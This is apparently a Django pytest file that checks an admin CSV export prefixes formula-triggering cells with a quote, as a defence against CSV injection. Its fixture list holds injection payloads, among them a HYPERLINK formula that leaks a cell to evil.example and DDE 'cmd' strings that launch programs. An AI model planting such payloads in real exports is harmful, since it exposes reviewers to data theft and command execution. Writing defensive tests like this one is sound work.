"""Admin CSV export: what agents and users wrote reaches the reviewer's
spreadsheet as text, never as a formula (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from memory.models import Memory
from memory.services.memories import fact_store

pytestmark = pytest.mark.django_db

# Each starts with a character a spreadsheet evaluates (or strips and then evaluates).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _export(client, url_name: str, pks: list) -> list[list[str]]:
    response = client.post(reverse(url_name), {"action": "export_csv", "_selected_action": [str(pk) for pk in pks]})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


def test_memory_export_neutralises_formula_cells(client, admin_a):
    stored = [
        fact_store(caller=admin_a.caller, subject=f"=cmd{i}", predicate="@p", content=text).memory
        for i, text in enumerate(FORMULAS)
    ]
    plain = fact_store(caller=admin_a.caller, subject="acme", predicate="plan", content="Acme plans = a merger").memory
    client.force_login(admin_a.user)
    header, *rows = _export(client, "admin:memory_memory_changelist", [m.pk for m in [*stored, plain]])
    by_id = {row[header.index("id")]: dict(zip(header, row, strict=True)) for row in rows}
    for memory in stored:
        row = by_id[str(memory.pk)]
        content = Memory.objects.get(pk=memory.pk).content
        # The text is all there, behind a quote that makes the spreadsheet show it as text.
        assert row["content"] == "'" + content, row
        assert row["subject"].startswith("'=") and row["predicate"] == "'@p"
    assert by_id[str(plain.pk)]["content"] == "Acme plans = a merger"
    assert by_id[str(plain.pk)]["subject"] == "acme"
    # No exported cell anywhere starts with a formula trigger.
    assert not [cell for row in rows for cell in row if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
